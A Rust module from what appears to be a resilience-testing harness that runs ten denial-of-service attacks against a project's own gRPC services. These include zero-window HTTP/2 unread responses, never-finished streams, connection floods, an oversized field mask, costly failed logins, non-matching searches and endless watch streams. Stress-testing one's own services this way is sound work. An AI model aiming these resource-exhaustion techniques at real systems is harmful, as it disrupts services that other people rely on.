//! The attacks. Each needs at most a few connections; only one needs an account.

use std::time::Duration;

use bytes::Bytes;
use contracts::data::v1 as data;
use contracts::order::v1 as order;
use contracts::user::v1 as user;
use futures_util::future::{BoxFuture, join_all};
use h2::client::SendRequest;
use prost::Message;

use crate::attacker::{connect, send_headers, send_message};
use crate::regular::{Call, create_order};
use crate::system::{Fill, Target};

const FROM: [u8; 4] = [127, 0, 0, 2];
const WINDOW: u32 = 65_535;
/// After a rejection, or when a connection ends.
const PAUSE: Duration = Duration::from_secs(1);
const STAGGER: Duration = Duration::from_millis(2);

pub(crate) struct Attack {
    pub(crate) name: &'static str,
    /// The service whose memory is measured.
    pub(crate) service: &'static str,
    pub(crate) fill: Fill,
    pub(crate) regular: Call,
    /// Continues until it is dropped.
    pub(crate) run: fn(Target) -> BoxFuture<'static, ()>,
}

const NO_FILL: Fill = (0, 0);

#[rustfmt::skip]
pub(crate) const ATTACKS: &[Attack] = &[
    Attack { name: "untaken-answers",     service: "data",    fill: NO_FILL,      regular: Call::CreateOrder,  run: |target| Box::pin(unread_responses(target, 1)) },
    Attack { name: "endless-requests",    service: "user",    fill: NO_FILL,      regular: Call::GetProfile,   run: |target| Box::pin(endless(target)) },
    Attack { name: "connections",         service: "payment", fill: NO_FILL,      regular: Call::GetPayment,   run: |target| Box::pin(connections(target)) },
    Attack { name: "memory-of-answers",   service: "data",    fill: (400, 2_000), regular: Call::ListProducts, run: |target| Box::pin(unread_responses(target, 200)) },
    Attack { name: "memory-of-decoding",  service: "user",    fill: NO_FILL,      regular: Call::GetProfile,   run: |target| Box::pin(mask_paths(target)) },
    Attack { name: "log-ins",             service: "user",    fill: NO_FILL,      regular: Call::Login,        run: |target| Box::pin(log_ins(target)) },
    Attack { name: "log-ins-and-orders",  service: "user",    fill: NO_FILL,      regular: Call::CreateOrder,  run: |target| Box::pin(log_ins(target)) },
    Attack { name: "searches",            service: "data",    fill: (20_000, 300), regular: Call::CreateOrder, run: |target| Box::pin(searches(target)) },
    Attack { name: "health-watches",      service: "data",    fill: NO_FILL,      regular: Call::HealthCheck,  run: |target| Box::pin(health_watches(target)) },
    Attack { name: "order-watches",       service: "order",   fill: NO_FILL,      regular: Call::WatchOrder,   run: |target| Box::pin(order_watches(target)) },
];

/// Connects, and retries until a connection is accepted.
async fn connected(target: &Target, port: u16, window_bytes: u32) -> SendRequest<Bytes> {
    loop {
        match connect(FROM, target.address(port), window_bytes).await {
            Ok(sender) => return sender,
            Err(_) => tokio::time::sleep(PAUSE).await,
        }
    }
}

/// Makes `concurrency` calls at a time over one connection, repeatedly; reads a response until it ends or is reset.
async fn call_repeatedly(
    target: Target,
    port: u16,
    window_bytes: u32,
    concurrency: usize,
    call: (&'static str, Vec<u8>),
) {
    let (path, message) = &call;
    loop {
        let sender = &connected(&target, port, window_bytes).await;
        let one = async |number: usize| {
            // Staggered: sent together, their first small frames would exceed the limits of this client's HTTP/2
            // library.
            tokio::time::sleep(STAGGER * u32::try_from(number).expect("few")).await;
            while let Ok((rejected, mut response)) = send_message(sender, path, &target.token, message).await {
                if rejected.is_some() {
                    tokio::time::sleep(PAUSE).await;
                }
                while let Some(Ok(data)) = response.data().await {
                    let _ = response.flow_control().release_capacity(data.len());
                }
            }
        };
        join_all((0..concurrency).map(one)).await;
        tokio::time::sleep(PAUSE).await;
    }
}

/// Leaves responses unread: the HTTP/2 flow-control window is zero.
async fn unread_responses(target: Target, page_size: i32) {
    let request = data::ListProductsRequest { page_size, ..Default::default() }.encode_to_vec();
    let target = target.anonymous();
    call_repeatedly(target, 401, 0, 600, ("/data.v1.CatalogService/ListProducts", request)).await;
}

/// Requests whose message is never sent.
async fn endless(target: Target) {
    loop {
        let sender = connected(&target, 101, WINDOW).await;
        let mut ticks = tokio::time::interval(Duration::from_millis(400));
        let mut open = tokio::task::JoinSet::new();
        loop {
            ticks.tick().await;
            while open.try_join_next().is_some() {}
            let mut is_lost = false;
            for _ in open.len()..(open.len() + 120).min(1_000) {
                match send_headers(&sender, "/user.v1.UserService/Logout", "").await {
                    Ok((response, stream)) => {
                        open.spawn(async move {
                            let _ = response.await;
                            drop(stream);
                        });
                    }
                    Err(_) => is_lost = true,
                }
            }
            if is_lost {
                break;
            }
        }
        tokio::time::sleep(PAUSE).await;
    }
}

/// As many connections as are accepted, each with a call every four seconds, which is rejected.
async fn connections(target: Target) {
    let one = |_| async {
        loop {
            let sender = connected(&target, 301, WINDOW).await;
            while send_message(&sender, "/payment.v1.PaymentService/GetPayment", "", &[]).await.is_ok() {
                tokio::time::sleep(4 * PAUSE).await;
            }
            tokio::time::sleep(PAUSE).await;
        }
    };
    join_all((0..900).map(one)).await;
}

/// A megabyte of paths in a field mask.
async fn mask_paths(target: Target) {
    let request = user::UpdateProfileRequest {
        profile: Some(user::Profile { display_name: "x".into(), ..Default::default() }),
        update_mask: Some(prost_types::FieldMask { paths: vec!["x".to_owned(); 349_000] }),
    };
    call_repeatedly(target, 101, WINDOW, 4, ("/user.v1.UserService/UpdateProfile", request.encode_to_vec())).await;
}

/// Log-ins to accounts that do not exist; each costs as much as a real one.
async fn log_ins(target: Target) {
    let one = |number: usize| {
        let target = target.anonymous();
        let login = user::LoginRequest { email: format!("x{number}@example.com"), password: "wrong horse".into() };
        call_repeatedly(target, 101, WINDOW, 1, ("/user.v1.UserService/Login", login.encode_to_vec()))
    };
    join_all((0..70).map(one)).await;
}

/// Searches without a match in the whole catalogue.
async fn searches(target: Target) {
    let request = data::ListProductsRequest { text: format!("{}q", "a".repeat(199)), ..Default::default() };
    let target = target.anonymous();
    call_repeatedly(target, 401, WINDOW, 40, ("/data.v1.CatalogService/ListProducts", request.encode_to_vec())).await;
}

/// Streams that never end.
async fn health_watches(target: Target) {
    let target = target.anonymous();
    let one = |_| call_repeatedly(target.clone(), 401, WINDOW, 400, ("/grpc.health.v1.Health/Watch", vec![]));
    join_all((0..3).map(one)).await;
}

/// A customer's watches of an order that stays unpaid for a while.
async fn order_watches(target: Target) {
    let channel = target.channel("order", 201);
    loop {
        let Ok(order_id) = create_order(&channel, &target.token, "pm_gateway_noAnswer").await else {
            tokio::time::sleep(PAUSE).await;
            continue;
        };
        let request = order::WatchOrderRequest { order_id, ..Default::default() }.encode_to_vec();
        let one = |_| {
            call_repeatedly(target.clone(), 201, WINDOW, 530, ("/order.v1.OrderService/WatchOrder", request.clone()))
        };
        tokio::select! {
            _ = join_all((0..2).map(one)) => {}
            () = tokio::time::sleep(9 * PAUSE) => {}
        }
    }
}
